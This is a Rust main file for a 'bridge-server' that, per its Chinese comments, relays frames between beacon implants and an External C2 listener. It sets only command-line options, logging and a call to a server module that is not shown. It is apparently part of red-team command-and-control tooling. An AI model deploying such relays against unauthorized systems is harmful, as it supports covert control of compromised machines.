//! beacon 帧中继服务端
//!
//! 接受 beacon 侧 TCP 连接，为每个连接拨号 External C2 监听器并双向中继帧。

mod server;

use anyhow::Result;
use bridge_protocol::{ChannelConfig, OversizePolicy, MAX_FRAME_SIZE};
use clap::Parser;
use server::BridgeServer;
use tracing::info;
use tracing_subscriber::EnvFilter;

const DEFAULT_LISTEN_ADDR: &str = "127.0.0.1:4444";
const DEFAULT_C2_ADDR: &str = "127.0.0.1:2222";

/// 命令行参数
#[derive(Parser, Debug)]
#[command(name = "bridge-server", about = "Relay beacon frames to an External C2 listener")]
struct Args {
    /// beacon 侧监听地址
    #[arg(long, default_value = DEFAULT_LISTEN_ADDR)]
    listen: String,

    /// External C2 监听器地址
    #[arg(long, default_value = DEFAULT_C2_ADDR)]
    c2: String,

    /// 以 base64 记录小帧内容
    #[arg(long)]
    debug: bool,

    /// 单帧负载上限（字节）
    #[arg(long, default_value_t = MAX_FRAME_SIZE)]
    max_frame_size: usize,

    /// 超限帧截断而不是拒绝
    #[arg(long)]
    truncate_oversize: bool,
}

impl Args {
    fn channel_config(&self) -> ChannelConfig {
        ChannelConfig {
            max_frame_size: self.max_frame_size,
            oversize_policy: if self.truncate_oversize {
                OversizePolicy::Truncate
            } else {
                OversizePolicy::Reject
            },
            debug: self.debug,
            ..ChannelConfig::default()
        }
    }
}

#[tokio::main]
async fn main() -> Result<()> {
    // 初始化日志
    tracing_subscriber::fmt()
        .with_env_filter(
            EnvFilter::from_default_env()
                .add_directive("bridge_server=debug".parse()?)
                .add_directive("bridge_protocol=debug".parse()?),
        )
        .init();

    let args = Args::parse();

    info!("Bridge Server starting on {}, relaying to {}", args.listen, args.c2);

    let server = BridgeServer::new(args.c2.clone(), args.channel_config());
    server.run(&args.listen).await?;

    Ok(())
}
